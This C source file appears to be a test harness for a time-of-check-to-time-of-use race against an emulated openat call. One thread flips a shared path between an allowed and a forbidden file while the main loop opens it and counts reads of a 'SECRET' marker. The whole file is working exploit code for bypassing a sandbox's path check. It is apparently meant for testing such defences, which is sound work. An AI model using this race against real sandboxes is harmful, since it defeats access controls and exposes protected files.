/* TOCTOU attack on an emulated openat: one thread opens the path in a
 * shared buffer while another flips the buffer between an allowed file and
 * a forbidden one of the same length. Counts opens that read the secret. */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>

static char buf[4096];
static const char *a, *b;
static volatile int stop;

static void *flip(void *arg) {
    (void)arg;
    size_t n = strlen(a) + 1;
    while (!stop) {
        memcpy(buf, b, n);
        memcpy(buf, a, n);
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 4 || strlen(argv[1]) != strlen(argv[2])) return 2;
    a = argv[1], b = argv[2];
    long n = atol(argv[3]), leaks = 0, opened = 0, denied = 0, other = 0;
    strcpy(buf, a);
    pthread_t t;
    pthread_create(&t, 0, flip, 0);
    for (long i = 0; i < n; i++) {
        int fd = syscall(SYS_openat, AT_FDCWD, buf, O_RDONLY);
        if (fd < 0) { denied++; continue; }
        char c[16] = {0};
        if (read(fd, c, sizeof c - 1) > 0 && strncmp(c, "SECRET", 6) == 0) leaks++;
        else opened++;
        close(fd);
    }
    stop = 1;
    pthread_join(t, 0);
    printf("attempts=%ld leaks=%ld opened=%ld denied=%ld other=%ld\n", n, leaks, opened, denied, other);
    return 0;
}
